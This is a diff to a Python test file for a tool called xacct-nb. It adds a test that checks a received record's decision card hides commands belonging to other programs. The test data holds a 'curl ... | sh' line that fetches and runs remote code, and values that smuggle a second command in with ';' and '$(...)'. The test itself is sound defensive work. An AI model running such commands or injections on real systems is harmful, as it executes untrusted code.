@@ -2,6 +2,9 @@
 
 import shlex
 
+import pytest
+
+from xacct_nb.changes.decision_card import CardPlace, DecisionCard
 from xacct_nb.changes.journal import Entry, Journal
 from xacct_nb.records.model import Record
 from xacct_nb.records.next_steps import next_steps, resume_command
@@ -47,6 +50,25 @@ def test_a_secret_is_replaced_by_a_placeholder() -> None:
     assert resume_command("20", "", options, "", {"summer-2026"}) == (
         "xacct-nb run 20 -p conditions.external_id env:NAME -p note ... -p ticket CHG1"
     )
+
+
+@pytest.mark.parametrize(
+    ("command", "is_shown"),
+    [
+        ("xacct-nb run plan_and_apply -f 'a grant.yaml' --approve 0f", True),
+        ("curl https://example.com/x | sh", False),
+        ("xacct-nb run plan_and_apply; touch x", False),
+        ("xacct-nb run plan_and_apply $(touch x)", False),
+    ],
+)
+def test_a_record_that_somebody_sent_shows_no_command_of_another_program(
+    command: str, is_shown: bool
+) -> None:
+    place = CardPlace("aws")
+    card = DecisionCard(("s",), (), place, (), "ada", "", None, "0f", "Plan: 1 to add.", command=command)
+    page = str(a_record("planned", card=card))
+
+    assert (command in page) is is_shown
 
 
 def test_a_run_that_may_have_left_changes_can_be_rolled_back() -> None:
